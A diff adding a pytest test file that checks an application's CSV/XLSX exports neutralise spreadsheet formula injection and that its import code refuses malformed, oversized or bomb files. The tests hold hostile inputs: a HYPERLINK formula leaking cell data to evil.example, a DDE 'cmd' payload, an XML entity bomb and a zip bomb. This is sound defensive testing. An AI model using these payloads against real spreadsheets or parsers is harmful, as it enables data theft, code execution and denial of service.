@@ -1,0 +1,187 @@
+"""Files of inputs and attachments: formula-safe exports that import again unchanged, and odd or
+oversized files refused with a clear reason instead of a crash."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pytest
+from docx import Document
+from openpyxl import Workbook, load_workbook
+from sqlalchemy.orm import Session
+
+from stocktake.consultation.files import (
+    MAX_COLUMNS,
+    MAX_ROWS,
+    extract_text,
+    read_inputs,
+    write_inputs,
+)
+from stocktake.consultation.models import Input
+from stocktake.consultation.queries import InputFilter, iter_inputs
+from stocktake.consultation.services import InputData, import_inputs, submit_input
+from stocktake.core.errors import ValidationFailed
+from stocktake.core.permissions import Principal
+from stocktake.process.services import get_process
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "=1+1",
+    "'=already quoted",
+    "'Tis the season of portability.",
+]
+
+
+def _hostile_inputs(session: Session) -> list[Input]:
+    process = get_process(session)
+    records = []
+    for number, title in enumerate(HOSTILE):
+        records.append(
+            submit_input(
+                session,
+                process,
+                InputData(
+                    text=f"{title} — text of hostile input {number}",
+                    submitter="MEX",
+                    title=title,
+                ),
+                by=Principal.system(),
+            )
+        )
+    return records
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_never_carry_a_live_formula_and_import_again_unchanged(
+    session: Session, fmt: str
+) -> None:
+    records = _hostile_inputs(session)
+    buffer = io.BytesIO()
+    write_inputs(records, fmt, buffer)
+    if fmt == "csv":
+        cells = [
+            value for row in csv.reader(io.StringIO(buffer.getvalue().decode())) for value in row
+        ]
+    else:
+        sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]
+    rows = read_inputs(buffer.getvalue(), f"export.{fmt}")
+    assert [data.title for _, data in rows] == HOSTILE
+    assert [data.text for _, data in rows] == [r.text for r in records]
+    report = import_inputs(
+        session, get_process(session), rows, by=Principal.system(), source=f"export.{fmt}"
+    )
+    assert (report.created, report.unchanged) == (0, len(records))
+
+
+def test_a_json_export_is_left_as_it_is(session: Session) -> None:
+    records = _hostile_inputs(session)
+    buffer = io.BytesIO()
+    write_inputs(records, "json", buffer)
+    rows = read_inputs(buffer.getvalue(), "export.json")
+    assert [data.title for _, data in rows] == HOSTILE
+
+
+def test_the_public_export_of_published_inputs_is_formula_safe(session: Session) -> None:
+    process = get_process(session)
+    records = iter_inputs(session, process, InputFilter(), by=Principal.public())[:50]
+    buffer = io.BytesIO()
+    write_inputs(records, "csv", buffer)
+    assert "\n=" not in buffer.getvalue().decode()
+
+
+def _xlsx(rows: list[list[object]]) -> bytes:
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    for row in rows:
+        sheet.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def test_odd_files_of_inputs_are_refused_with_a_reason() -> None:
+    with pytest.raises(ValidationFailed, match="column 'text' appears 2 times"):
+        read_inputs(b"submitter,text,text\nKEN,a,b\n", "twice.csv")
+    with pytest.raises(ValidationFailed, match="longer than 131,072 characters"):
+        read_inputs(b"submitter,text\nKEN," + b"a" * 140_000 + b"\n", "long.csv")
+    with pytest.raises(ValidationFailed, match="line 2: contains a NUL character"):
+        read_inputs(b"submitter,text\nKEN,a\x00b\n", "nul.csv")
+    with pytest.raises(ValidationFailed, match=r"row 2, column B: is a formula"):
+        read_inputs(_xlsx([["submitter", "text"], ["KEN", "=1+2"]]), "formula.xlsx")
+    with pytest.raises(ValidationFailed, match="column 'text' appears 2 times"):
+        read_inputs(_xlsx([["submitter", "text", "text"], ["KEN", "a", "b"]]), "twice.xlsx")
+    with pytest.raises(ValidationFailed, match=f"columns; at most {MAX_COLUMNS}"):
+        read_inputs(
+            _xlsx([["submitter", "text", *[f"c{i}" for i in range(MAX_COLUMNS)]]]), "wide.xlsx"
+        )
+
+
+def test_a_workbook_is_measured_before_its_rows_are_read() -> None:
+    # a sheet that declares more rows than allowed is refused from its dimension alone
+    content = io.BytesIO()
+    original = io.BytesIO(_xlsx([["submitter", "text"], ["KEN", "a"]]))
+    with zipfile.ZipFile(original) as source, zipfile.ZipFile(content, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(
+                    b'<dimension ref="A1:B2"', f'<dimension ref="A1:B{MAX_ROWS + 5}"'.encode()
+                )
+            target.writestr(item, data)
+    with pytest.raises(ValidationFailed, match="rows; at most"):
+        read_inputs(content.getvalue(), "tall.xlsx")
+
+
+def test_an_xlsx_entity_bomb_is_refused_not_a_crash() -> None:
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
+        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
+        b"</sheetData></worksheet>"
+    )
+    content = io.BytesIO()
+    original = io.BytesIO(_xlsx([["submitter", "text"]]))
+    with zipfile.ZipFile(original) as source, zipfile.ZipFile(content, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            target.writestr(item, bomb if item.filename == "xl/worksheets/sheet1.xml" else data)
+    with pytest.raises(ValidationFailed):
+        read_inputs(content.getvalue(), "bomb.xlsx")
+
+
+def _docx(text: str) -> bytes:
+    document = Document()
+    document.add_paragraph(text)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def test_attachment_text_is_capped_with_a_clear_message() -> None:
+    assert extract_text(_docx("A short contribution."), "ok.docx") == "A short contribution."
+    with pytest.raises(ValidationFailed, match="longer than the limit of 1,000 characters"):
+        extract_text(_docx("word " * 1000), "long.docx", max_chars=1000)
+    with pytest.raises(ValidationFailed, match="longer than the limit"):
+        extract_text(b"x" * 2000, "long.txt", max_chars=1000)
+    with pytest.raises(ValidationFailed, match="not a readable DOCX file"):
+        extract_text(b"PK\x03\x04 broken", "broken.docx")
+    assert extract_text(b"a\x00b", "nul.txt") == "ab"
+
+
+def test_a_docx_that_unpacks_to_too_much_is_refused_before_it_is_parsed() -> None:
+    content = io.BytesIO()
+    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.xml", b" " * (201 * 2**20))
+    assert len(content.getvalue()) < 2**20
+    with pytest.raises(ValidationFailed, match="unpacks to"):
+        extract_text(content.getvalue(), "bomb.docx")
